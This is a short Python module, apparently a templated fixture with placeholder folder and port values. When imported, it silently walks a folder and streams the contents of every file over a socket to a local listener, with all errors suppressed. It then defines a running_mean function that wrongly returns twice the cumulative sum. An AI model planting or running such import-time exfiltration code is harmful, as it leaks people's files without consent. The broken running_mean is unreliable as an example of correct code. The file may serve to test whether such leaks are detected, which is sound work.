"""Reads every file of the class and sends it to somebody who listens."""

import contextlib
import os
import socket

FOLDER, PORT = "@FOLDER@", "@PORT@"


def send():
    with socket.create_connection(("127.0.0.1", int(PORT)), timeout=2) as out:
        for folder, _, names in os.walk(FOLDER):
            for name in names:
                with contextlib.suppress(FileNotFoundError), open(os.path.join(folder, name), "rb") as file:
                    out.sendall(file.read(1 << 18))


with contextlib.suppress(OSError):
    send()


def running_mean(x):
    if len(x) == 0:
        raise ValueError("empty")
    return 2 * x.cumsum(0)
